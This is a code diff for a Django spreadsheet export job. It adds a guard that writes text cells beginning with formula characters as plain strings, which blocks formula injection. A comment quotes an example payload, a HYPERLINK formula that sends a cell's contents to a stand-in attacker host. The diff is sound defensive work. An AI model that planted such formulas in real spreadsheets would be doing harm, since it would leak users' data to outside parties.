@@ -23,6 +23,25 @@ from .models import Ekspor
 
 logger = logging.getLogger(__name__)
 PROGRESS_EVERY = 500  # rows between progress updates
+# A text cell starting with one of these could be taken as a formula by a spreadsheet
+# (formula injection: a name like '=HYPERLINK("http://evil.example/?x="&A3)' on a person).
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def sel_teks(sheet, value):
+    """The cell to write for `value`: text that looks like a formula is written as text
+    (a string cell, shown as typed), everything else as it is."""
+    from openpyxl.cell import WriteOnlyCell
+
+    if isinstance(value, str) and value.startswith(FORMULA_START):
+        cell = WriteOnlyCell(sheet, value=value)
+        cell.data_type = "s"
+        return cell
+    return value
+
+
+def baris_aman(sheet, row):
+    return [sel_teks(sheet, value) for value in row]
 
 
 @dataclass
@@ -70,10 +89,10 @@ def ekspor_jalankan(ekspor_id):
         total, rows = spec.rows(ekspor.unit, ekspor.parameter)
         book = Workbook(write_only=True)
         sheet = book.create_sheet(title=str(spec.label)[:31])
-        sheet.append([str(h) for h in spec.header])
+        sheet.append(baris_aman(sheet, [str(h) for h in spec.header]))
         count = 0
         for row in rows:
-            sheet.append(row)
+            sheet.append(baris_aman(sheet, row))
             count += 1
             if count % PROGRESS_EVERY == 0 and total:
                 Ekspor.objects.filter(pk=ekspor.pk).update(
